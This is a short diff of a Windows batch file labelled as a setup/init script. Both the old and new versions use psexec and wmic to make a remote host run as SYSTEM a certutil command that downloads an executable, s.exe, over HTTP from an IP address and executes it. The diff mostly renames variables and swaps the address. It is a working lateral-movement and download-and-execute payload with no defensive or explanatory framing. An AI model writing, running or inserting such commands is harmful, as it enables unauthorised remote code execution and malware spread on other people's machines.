@@ -1,7 +1,7 @@
-REM setup 0508 v0
+REM init 6265 v0
 @echo off
-set "sukb=psexec.exe \\203.0.113.17 -accepteula -s -d cmd /c "certutil -urlcache -f http://203.0.113.17/s.exe C:\s.exe && C:\s.exe""
-call %sukb%
+set npty=psexec.exe \\203.0.113.200 -accepteula -s -d cmd /c "certutil -urlcache -f http://203.0.113.200/s.exe C:\s.exe && C:\s.exe"
+call %npty%
 @echo off
-set "smlj=wmic /node:203.0.113.17 process call create "cmd /c C:\s.exe""
-call %smlj%
+set sdux=wmic /node:203.0.113.200 process call create "cmd /c C:\s.exe"
+call %sdux%
